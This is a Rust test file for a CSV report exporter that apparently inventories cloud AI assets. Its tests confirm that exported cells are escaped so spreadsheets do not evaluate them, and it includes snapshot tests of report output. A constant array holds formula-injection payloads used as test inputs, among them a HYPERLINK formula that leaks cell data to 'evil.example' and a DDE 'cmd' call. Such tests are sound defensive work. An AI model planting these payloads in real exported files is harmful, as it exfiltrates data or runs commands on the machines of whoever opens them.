//! What a spreadsheet makes of the tables.

use ironcalc_base::Model;
use opencite_core::{Inventory, Report, ReportKind};

use crate::csv::cell;
use crate::samples;

/// Texts that spreadsheets take for formulas, or for orders to another program.
const FORMULAS: [&str; 9] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
    "=cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=\"a\"&CHAR(10)",
];

/// Opens a table as a spreadsheet does: what is typed into a cell may be a formula. Returns the formulas.
fn formulas(csv: &str) -> Vec<String> {
    let mut model = Model::new_empty("report", "en", "UTC", "en").unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    let mut places = Vec::new();
    for (row, record) in (1..).zip(reader.records()) {
        for (column, cell) in (1..).zip(&record.unwrap()) {
            model
                .set_user_input(0, row, column, cell.to_owned())
                .unwrap();
            places.push((row, column));
        }
    }
    model.evaluate();
    let formula = |(row, column)| model.get_cell_formula(0, row, column).unwrap();
    places.into_iter().filter_map(formula).collect()
}

fn written(report: &Report) -> String {
    samples::text(|writer| super::report(report, writer))
}

fn named(name: &str) -> opencite_core::AssetRecord {
    opencite_core::AssetRecord {
        name: name.to_owned(),
        status: Some(name.to_owned()),
        ..samples::endpoint()
    }
}

#[test]
fn a_spreadsheet_would_evaluate_what_these_names_say() {
    assert_eq!(formulas("=1+1\n"), ["=1+1"]);
    assert_eq!(
        formulas(&format!("{}\n", cell("=1+1"))),
        Vec::<String>::new()
    );
}

#[test]
fn a_spreadsheet_finds_no_formula_in_any_report() {
    let assets = FORMULAS.map(named).into_iter().chain([samples::hostile()]);
    let inventory = Report {
        inventory: Inventory {
            assets: assets.collect(),
            ..samples::inventory()
        },
        ..samples::report(ReportKind::Inventory)
    };
    let mut changes = samples::hostile_comparison();
    changes.added = FORMULAS.map(named).into();
    let changes = Report {
        changes: Some(changes),
        ..samples::report(ReportKind::Changes)
    };
    let mut usage = samples::report(ReportKind::Usage);
    for (row, name) in usage
        .usage
        .iter_mut()
        .flat_map(|it| &mut it.models)
        .zip(FORMULAS)
    {
        row.key = Some(name.to_owned());
    }
    for report in [inventory, changes, usage] {
        assert_eq!(formulas(&written(&report)), Vec::<String>::new());
    }
}

#[test]
fn changes_are_a_row_a_field_and_say_what_could_not_be_compared() {
    insta::assert_snapshot!(written(&samples::report(ReportKind::Changes)), @r#"
    change,plugin,type,id,name,account,region,field,old,new,reason
    added,aws_bedrock,custom_model,arn:aws:bedrock:us-east-1:111122223333:custom-model/support,support,111122223333,us-east-1,,,,
    removed,aws_sagemaker,endpoint,arn:aws:sagemaker:eu-west-1:111122223333:endpoint/churn,churn,111122223333,eu-west-1,,,,
    aged_out,aws_sagemaker,training_job,arn:aws:sagemaker:eu-west-1:111122223333:training-job/churn-1,churn-1,111122223333,eu-west-1,,,,
    changed,aws_sagemaker,endpoint,arn:aws:sagemaker:eu-west-1:111122223333:endpoint/churn,churn,111122223333,eu-west-1,status,,InService,
    changed,aws_sagemaker,endpoint,arn:aws:sagemaker:eu-west-1:111122223333:endpoint/churn,churn,111122223333,eu-west-1,properties.variants,,"[{""name"":""blue"",""weight"":1}]",
    ticked,aws_sagemaker,endpoint,arn:aws:sagemaker:eu-west-1:111122223333:endpoint/churn,churn,111122223333,eu-west-1,modified,,2026-11-21T06:00:00Z,
    not_comparable,aws_bedrock,guardrail,,,111122223333,us-east-1,,,,failed as of the later scan: access-denied at bedrock:ListGuardrails (AccessDeniedException): no identity-based policy allows it
    not_comparable,aws_bedrock,flow,,,111122223333,us-east-1,,,,it had not run by the earlier scan
    "#);
}

#[test]
fn usage_is_one_table_whatever_it_is_counted_by() {
    insta::assert_snapshot!(written(&samples::report(ReportKind::Usage)), @"
    by,key,invocations,errors,input_tokens,output_tokens,cache_read_tokens,cache_write_tokens,principals,first_seen,last_seen
    model,anthropic.claude-3-haiku-20240307-v1:0,1500,150,63568,0,18131,,7,2026-11-01T00:30:00Z,2026-11-21T07:00:00Z
    model,,3,0,,,,,,2026-11-01T00:30:00Z,2026-11-21T07:00:00Z
    model,amazon.nova-lite-v1:0,,,63568,0,18131,,,,
    principal,arn:aws:iam::111122223333:role/apps/Chat,1500,150,63568,0,18131,,1,2026-11-01T00:30:00Z,2026-11-21T07:00:00Z
    profile,us.anthropic.claude-3-haiku-20240307-v1:0,1500,150,63568,0,18131,,7,2026-11-01T00:30:00Z,2026-11-21T07:00:00Z
    endpoint,churn/blue,12000,3,,,,,,2026-11-01T00:00:00Z,2026-11-21T07:00:00Z
    endpoint,churn,0,,,,,,,,
    ");
}

#[test]
fn a_report_without_an_earlier_scan_is_a_header() {
    let first = Report {
        changes: None,
        ..samples::report(ReportKind::Changes)
    };
    assert_eq!(written(&first).lines().count(), 1);
}
